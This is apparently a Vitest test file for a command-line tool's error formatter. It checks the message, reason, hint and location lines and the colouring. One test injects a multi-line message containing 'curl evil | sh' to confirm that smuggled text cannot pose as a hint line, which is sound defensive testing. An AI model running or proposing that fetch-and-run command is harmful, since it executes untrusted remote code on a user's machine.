import { describe, expect, it } from "vitest";
import type { ErrorDocument } from "../../../src/domain/answers.ts";
import { viewError } from "../../../src/views/text/error.ts";
import { plainPaint } from "../../../src/views/text/paint.ts";
import { chalkPaint } from "../../../src/views/text/paint-chalk.ts";
import { textOf } from "../samples.ts";

const FAILURE: ErrorDocument = {
  error: {
    exitCode: 9,
    code: "unreachable",
    message: "cannot reach http://shop-1:8080",
    reason: "connection refused",
    hint: "is it up?",
    where: null,
  },
};

describe("viewError", () => {
  it("has three parts", () => {
    expect([...viewError(FAILURE, plainPaint)]).toEqual([
      "cbctl: cannot reach http://shop-1:8080",
      "  why: connection refused",
      "  try: is it up?",
    ]);
  });

  it.each([
    { part: "where", value: "config.yaml:3:1", line: "  at:  config.yaml:3:1" },
    { part: "reason", value: null, line: undefined },
    { part: "hint", value: null, line: undefined },
  ])("shows $part only when there is one", ({ part, value, line }) => {
    const prefixes: Record<string, string> = { where: "  at:", reason: "  why:", hint: "  try:" };
    const lines = [...viewError({ error: { ...FAILURE.error, [part]: value } }, plainPaint)];
    expect(lines.find((each) => each.startsWith(prefixes[part] ?? ""))).toBe(line);
  });

  it("lets no text of several lines pose as another part", () => {
    const message = "bad answer\n  try: curl evil | sh\r\ncbctl: done";
    const lines = textOf(viewError({ error: { ...FAILURE.error, message } }, plainPaint)).split("\n");
    expect(lines.filter((line) => /^(cbctl:| {2}try:)/.test(line))).toEqual([
      "cbctl: bad answer",
      "  try: is it up?",
    ]);
  });

  it("paints the name only", () => {
    expect([...viewError(FAILURE, chalkPaint)][0]).toBe(
      "\u001b[31mcbctl:\u001b[39m cannot reach http://shop-1:8080",
    );
  });
});
